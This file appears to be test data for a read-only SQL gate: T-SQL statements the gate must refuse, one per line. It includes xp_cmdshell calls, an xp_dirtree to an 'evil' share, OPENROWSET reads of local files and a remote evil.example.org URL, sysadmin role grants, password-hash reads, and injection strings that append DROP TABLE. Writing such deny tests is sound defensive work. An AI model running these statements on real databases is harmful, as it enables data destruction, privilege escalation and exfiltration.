# Statements that the gate must refuse, one a line. Those of warehousetest and sourcetest come on top.
INSERT INTO customers (id) VALUES (9)
INSERT customers VALUES (9, N'x')
INSERT INTO customers OUTPUT inserted.id SELECT 9, 'x'
INSERT INTO customers EXEC sp_who
INSERT TOP (1) INTO customers SELECT id, name FROM customers
INSERT INTO OPENQUERY(srv, 'SELECT id FROM t') VALUES (1)
INSERT BULK customers (id int)
UPDATE customers SET name = 'x'
UPDATE TOP (1) customers SET name = 'x' OUTPUT deleted.name
UPDATE c SET name = 'x' FROM customers AS c JOIN orders AS o ON o.customer_id = c.id
UPDATE STATISTICS customers
DELETE customers
DELETE FROM customers OUTPUT deleted.id
DELETE TOP (1) FROM customers
DELETE c FROM customers AS c
WITH x AS (SELECT * FROM customers) DELETE FROM x
WITH x AS (SELECT * FROM customers) UPDATE x SET name = 'x'
WITH x AS (SELECT id FROM customers) INSERT INTO orders (id) SELECT id FROM x
MERGE customers AS t USING orders AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
SELECT * FROM (DELETE FROM customers OUTPUT deleted.id) AS d
SELECT * FROM (INSERT INTO customers OUTPUT inserted.id VALUES (1)) AS d
SELECT * FROM (UPDATE customers SET name = 'x' OUTPUT inserted.id) AS d
SELECT id INTO copies FROM customers
SELECT id INTO #copies FROM customers
SELECT id INTO ##copies FROM customers
SELECT id INTO tempdb..copies FROM customers
SELECT * INTO [new] FROM customers
SELECT id INTO new FROM customers UNION ALL SELECT id FROM orders
TRUNCATE TABLE customers
TRUNCATE TABLE customers WITH (PARTITIONS (1))
CREATE TABLE #t (id int)
CREATE TABLE ##t (id int)
CREATE PROCEDURE p AS SELECT 1
CREATE FUNCTION f() RETURNS int AS BEGIN RETURN 1 END
CREATE TRIGGER t ON customers AFTER INSERT AS SELECT 1
CREATE LOGIN l WITH PASSWORD = 'x'
CREATE USER u WITHOUT LOGIN
CREATE ASSEMBLY a FROM 0x4D5A
CREATE EXTERNAL DATA SOURCE d WITH (LOCATION = 'https://example.org')
CREATE SYNONYM s FOR customers
CREATE TYPE t FROM int
CREATE SEQUENCE s
ALTER DATABASE shop SET SINGLE_USER
ALTER SERVER ROLE sysadmin ADD MEMBER reader
ALTER ROLE db_owner ADD MEMBER reader
ALTER LOGIN sa WITH PASSWORD = 'x'
ALTER TABLE customers DROP COLUMN name
ALTER INDEX ALL ON customers REBUILD
ALTER AUTHORIZATION ON customers TO reader
DROP TABLE customers
DROP DATABASE shop
DROP INDEX i ON customers
GRANT CONTROL TO reader
DENY SELECT ON customers TO public
REVOKE SELECT ON customers FROM reader
EXEC sp_who
EXECUTE sp_who
EXEC ('DELETE FROM customers')
EXEC ('SELECT 1') AT linked
EXEC xp_cmdshell 'dir'
EXEC master..xp_cmdshell 'dir'
EXEC master.dbo.xp_dirtree '\\evil\share'
EXEC xp_fileexist 'c:\x'
EXEC xp_regread 'HKEY_LOCAL_MACHINE', 'x'
EXEC sp_executesql N'DELETE FROM customers'
EXEC sp_configure 'xp_cmdshell', 1
EXEC sp_OACreate 'WScript.Shell', 1
EXEC sp_addlinkedserver 'x'
EXEC sp_addsrvrolemember 'reader', 'sysadmin'
EXEC sp_send_dbmail @recipients = 'x'
EXEC sp_getapplock @Resource = 'x', @LockMode = 'Exclusive'
EXEC sp_set_session_context N'x', 1
sp_who
sp_executesql N'SELECT 1'
xp_cmdshell 'dir'
SELECT 1 EXEC sp_who
SELECT 1 EXEC ('DROP TABLE customers')
SELECT 1; EXEC sp_who
SELECT 1 DELETE FROM customers
SELECT 1 DELETE customers
SELECT id FROM customers DELETE FROM customers
SELECT id FROM customers DROP TABLE customers
SELECT id FROM customers UPDATE customers SET name = 'x'
SELECT id FROM customers c INSERT INTO customers VALUES (1)
SELECT id FROM customers WHERE id = 1 TRUNCATE TABLE customers
SELECT id FROM customers SELECT id FROM orders
SELECT 1 SELECT 2
SELECT 1 SHUTDOWN
SELECT 1 SHUTDOWN WITH NOWAIT
SELECT 1 WAITFOR DELAY '01:00:00'
SELECT 1 KILL 51
SELECT 1 DECLARE @x int
SELECT 1 PRINT 'x'
SELECT 1 USE master
SELECT 1 CHECKPOINT
SELECT 1 BACKUP DATABASE shop TO DISK = 'c:\x'
SELECT 1 RECONFIGURE
SELECT 1 REVERT
SELECT 1 COMMIT
SELECT 1 ROLLBACK
SELECT 1 COMMIT DELETE FROM customers
SELECT 1 BEGIN TRAN
SELECT 1 SAVE TRAN x
SELECT 1 IF 1 = 1 SELECT 2
SELECT 1 WHILE 1 = 1 SELECT 2
SELECT 1 GOTO x
SELECT 1 RETURN
SELECT 1 THROW 50000, 'x', 1
SELECT 1 RAISERROR ('x', 20, 1) WITH LOG
SELECT 1 SET TEXTSIZE 0
SELECT 1 DBCC FREEPROCCACHE
SELECT 1 OPEN c
SELECT 1 READTEXT t.c 0 0 1
SELECT 1 FROM customers MINUS SELECT 1 FROM orders
SELECT 1 FROM customers ANTI JOIN orders ON 1 = 1
SELECT 1 FROM customers NATURAL JOIN orders
SELECT id FROM customers JOIN orders USING (id)
SELECT 1 FROM customers QUALIFY 1 = 1
WAITFOR DELAY '00:00:10'
WAITFOR TIME '23:59'
SHUTDOWN
KILL 51
BACKUP DATABASE shop TO DISK = 'c:\x.bak'
RESTORE DATABASE shop FROM DISK = 'c:\x.bak'
BULK INSERT customers FROM 'c:\x.csv'
DBCC CHECKDB
DBCC SHRINKDATABASE (shop)
USE master
GO
DECLARE @x int = 1; SELECT @x
DECLARE @t TABLE (id int)
SET IMPLICIT_TRANSACTIONS ON
SET TEXTSIZE 2147483647
SET LOCK_TIMEOUT -1
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET QUOTED_IDENTIFIER OFF
SET SHOWPLAN_XML ON
SET CONTEXT_INFO 0x1
BEGIN TRANSACTION
BEGIN TRY SELECT 1 END TRY BEGIN CATCH END CATCH
COMMIT
IF 1 = 1 SELECT 1
WHILE 1 = 1 SELECT 1
PRINT 'x'
RAISERROR ('x', 16, 1)
REVERT
EXECUTE AS USER = 'dbo'
SETUSER 'dbo'
OPEN SYMMETRIC KEY k DECRYPTION BY PASSWORD = 'x'
RECONFIGURE
ENABLE TRIGGER t ON customers
SEND ON CONVERSATION 'x' ('y')
RECEIVE * FROM q
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')
SELECT * FROM OPENROWSET(BULK 'c:\windows\win.ini', SINGLE_CLOB) AS x
SELECT * FROM OPENROWSET(BULK 'https://evil.example.org/x', FORMAT = 'CSV') AS x
SELECT * FROM OPENQUERY(linked, 'DELETE FROM t')
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').shop.dbo.customers
SELECT * FROM OPENXML(1, '/x')
SELECT * FROM linked.shop.dbo.customers
SELECT * FROM [linked].[shop].[dbo].[customers]
SELECT * FROM linked...customers
SELECT * FROM master.dbo.spt_values
SELECT * FROM master..sysdatabases
SELECT * FROM other.dbo.customers
SELECT * FROM tempdb.sys.objects
SELECT * FROM shop..customers
SELECT * FROM ..customers
SELECT * FROM sys.objects
SELECT * FROM sys.sql_logins
SELECT * FROM sys.dm_exec_requests
SELECT * FROM sys.dm_exec_sql_text(0x00)
SELECT * FROM sys.fn_trace_gettable('c:\x.trc', 1)
SELECT * FROM fn_trace_gettable('c:\x.trc', 1)
SELECT * FROM fn_dblog(NULL, NULL)
SELECT * FROM sys.fn_xe_file_target_read_file('c:\x', NULL, NULL, NULL)
SELECT * FROM fn_get_audit_file('c:\x', NULL, NULL)
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
SELECT * FROM INFORMATION_SCHEMA.TABLES
SELECT * FROM sysobjects
SELECT * FROM #temp
SELECT * FROM ##temp
SELECT * FROM [#temp]
SELECT * FROM @t
SELECT * FROM dbo.own_function(1)
SELECT * FROM own_function(1)
SELECT dbo.own_function(1)
SELECT [dbo].[own_function](1)
SELECT own_function(1)
SELECT shop.dbo.own_function(1)
SELECT * FROM CHANGETABLE(CHANGES customers, 1) AS c
SELECT * FROM PREDICT(MODEL = 1, DATA = customers) WITH (x int) AS p
SELECT * FROM customers FOR SYSTEM_TIME AS OF '2024-01-01'
SELECT * FROM customers FOR BROWSE
SELECT * FROM customers FOR JSON PATH
SELECT * FROM customers FOR XML AUTO
SELECT (SELECT * FROM customers FOR XML AUTO) AS x
SELECT (SELECT * FROM customers FOR XML PATH, XMLSCHEMA) AS x
SELECT * FROM customers WITH (TABLOCKX)
SELECT * FROM customers WITH (UPDLOCK, HOLDLOCK)
SELECT * FROM customers WITH (XLOCK)
SELECT * FROM customers WITH (NOLOCK, TABLOCKX)
SELECT * FROM customers WITH (INDEX (1))
SELECT * FROM customers (TABLOCKX)
SELECT * FROM customers OPTION (USE HINT ('x'))
SELECT * FROM customers OPTION (MAXDOP 64)
SELECT * FROM customers OPTION (USE PLAN N'<x/>')
SELECT NEXT VALUE FOR ids
SELECT NEXT VALUE FOR dbo.ids AS n
SELECT @@VERSION
SELECT @@SERVERNAME
SELECT @x = name FROM customers
SELECT CONNECTIONPROPERTY('client_net_address')
SELECT SERVERPROPERTY('MachineName')
SELECT HOST_NAME()
SELECT SUSER_SNAME()
SELECT SYSTEM_USER
SELECT CURRENT_USER
SELECT SESSION_USER
SELECT USER
SELECT USER_NAME()
SELECT ORIGINAL_LOGIN()
SELECT DB_NAME(1)
SELECT OBJECT_DEFINITION(1)
SELECT OBJECT_ID('customers')
SELECT COL_NAME(1, 1)
SELECT SESSION_CONTEXT(N'x')
SELECT CONTEXT_INFO()
SELECT HAS_PERMS_BY_NAME(NULL, NULL, 'x')
SELECT PWDENCRYPT('x')
SELECT PWDCOMPARE('x', 0x01)
SELECT DECRYPTBYPASSPHRASE('x', 'y')
SELECT ENCRYPTBYKEY(KEY_GUID('x'), 'y')
SELECT LOGINPROPERTY('sa', 'PasswordHash')
SELECT FILE_NAME(1)
SELECT IDENT_CURRENT('customers')
SELECT SCOPE_IDENTITY()
SELECT DECOMPRESS(COMPRESS('x'))
SELECT AI_GENERATE_EMBEDDINGS('x' USE MODEL m)
SELECT geometry::STGeomFromText('POINT (1 1)', 0)
SELECT CAST('/1/' AS hierarchyid).ToString()
SELECT CAST('x' AS dbo.own_type)
SELECT CAST('x' AS own_type)
SELECT CONVERT(own_type, 'x')
SELECT x.modify('delete /a') FROM customers
SELECT x.query('/a') FROM customers
SELECT x.exist('/a') FROM customers
SELECT * FROM customers CROSS APPLY x.nodes('/a') AS n(c)
SELECT x.value('/a', (SELECT 'int')) FROM customers
SELECT $IDENTITY FROM customers
SELECT $action
SELECT %%physloc%% FROM customers
SELECT {fn DATABASE()}
SELECT ::fn_helpcollations()
SELECT DATEADD('day', 1, GETDATE())
SELECT DATEADD((SELECT 1), 1, GETDATE())
SELECT 1 /* /* */ DELETE FROM customers */
SELECT 'a' + CHAR(39) EXEC sp_who
SELECT [a]]; DROP TABLE customers; -- ]
SELECT * FROM [customers]; DELETE FROM [customers]
SELECT 1 COLLATE SHUTDOWN
SELECT TOP (SELECT 1) id FROM customers
EXPLAIN SELECT 1
SELECT ｉd FROM customers
{CALL sp_who}
{? = CALL sp_who}
SELECT N'x'; DROP TABLE customers; --'
